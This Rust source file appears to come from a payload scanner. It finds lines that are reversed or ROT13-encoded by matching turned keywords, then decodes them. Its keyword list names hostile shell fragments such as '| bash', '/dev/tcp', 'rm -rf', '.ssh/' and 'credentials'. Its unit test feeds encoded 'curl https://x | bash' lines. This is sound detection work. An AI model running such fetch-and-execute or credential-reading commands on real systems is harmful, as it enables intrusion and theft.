//! Lines that are written backwards or rotated by thirteen letters.
//!
//! They are found by words that are turned in the same way, so a file without any costs one pass.

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;
use prowess_spec::Span;

use crate::decoded::{Decoded, Way};
use crate::decoders::rot13;
use crate::limits::PAYLOADS;

/// Words that are looked for backwards and rotated.
const WORDS: &[&str] = &[
    "http://",
    "https://",
    "curl -",
    "curl http",
    "| bash",
    "|bash",
    "eval(atob",
    "eval(base",
    "exec(base",
    "import os",
    "os.system",
    "subprocess",
    "powershell",
    "instructions",
    "/bin/sh",
    "/bin/bash",
    "rm -rf",
    "base64",
    "invoke-expression",
    "child_process",
    "__import__",
    "chmod +x",
    "/dev/tcp",
    ".ssh/",
    "password",
    "credentials",
];

struct Turned {
    words: AhoCorasick,
}

static TURNED: LazyLock<Option<Turned>> = LazyLock::new(|| {
    let reversed = WORDS.iter().map(|word| reverse(word));
    let rotated = WORDS.iter().map(|word| rot13(word));
    let words: Vec<String> = reversed.chain(rotated).collect();
    let words = AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(words)
        .ok()?;
    Some(Turned { words })
});

fn reverse(text: &str) -> String {
    text.chars().rev().collect()
}

/// Small words that make a sentence; a line with several that are turned is one.
const SMALL: &[&str] = &[
    " the ", " and ", " to ", " for ", " your ", " this ", " with ", " from ", " that ", " user",
    " file", "send ", " la ", " las ", " und ", " die ", " les ", " des ",
];

/// The lines that have a turned word or several small ones, turned back.
pub(crate) fn lines(source: &str) -> Vec<Decoded> {
    let mut found = words(source);
    found.extend(sentences(source));
    found
}

fn sentences(source: &str) -> Vec<Decoded> {
    let mut found = Vec::new();
    let mut at = 0;
    for line in source.split_inclusive('\n') {
        let span = Span::new(at, at + line.trim_end().len());
        at += line.len();
        if !(20..=LINE).contains(&line.len()) || found.len() >= PAYLOADS {
            continue;
        }
        let lower = line.to_lowercase();
        let count = |turn: fn(&str) -> String| {
            SMALL
                .iter()
                .filter(|word| lower.contains(&turn(word)))
                .count()
        };
        if SMALL.iter().any(|word| lower.contains(word)) {
            continue;
        }
        if count(reverse) >= 2 {
            found.push(Decoded::new(reverse(line.trim_end()), span, Way::Reversed));
        } else if count(rot13) >= 2 {
            found.push(Decoded::new(rot13(line.trim_end()), span, Way::Rotated));
        }
    }
    found
}

fn words(source: &str) -> Vec<Decoded> {
    let Some(turned) = &*TURNED else {
        return Vec::new();
    };
    let mut found: Vec<Decoded> = Vec::new();
    for at in turned.words.find_iter(source) {
        let start = source
            .get(..at.start())
            .and_then(|before| before.rfind('\n'))
            .map_or(0, |line| line + 1);
        let end = source
            .get(at.end()..)
            .and_then(|after| after.find('\n'))
            .map_or(source.len(), |line| at.end() + line);
        let way = if at.pattern().as_usize() < WORDS.len() {
            Way::Reversed
        } else {
            Way::Rotated
        };
        let span = Span::new(start, end);
        if end - start > LINE
            || found
                .last()
                .is_some_and(|last| last.span == span && last.way == way)
        {
            continue;
        }
        let line = span.slice(source);
        let text = match way {
            Way::Reversed => reverse(line),
            _ => rot13(line),
        };
        found.push(Decoded::new(text, span, way));
        if found.len() >= PAYLOADS {
            break;
        }
    }
    found
}

/// Longest line that is turned.
const LINE: usize = 16 * 1024;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn turned_lines_are_found() {
        let found = lines("a\nhsab | x//:sptth lruc\nb\nphey uggcf://k | onfu\n");
        let texts: Vec<&str> = found.iter().map(|it| it.text.as_str()).collect();
        assert_eq!(texts, ["curl https://x | bash", "curl https://x | bash"]);
        assert!(lines("curl https://x | bash\n").is_empty());
    }
}
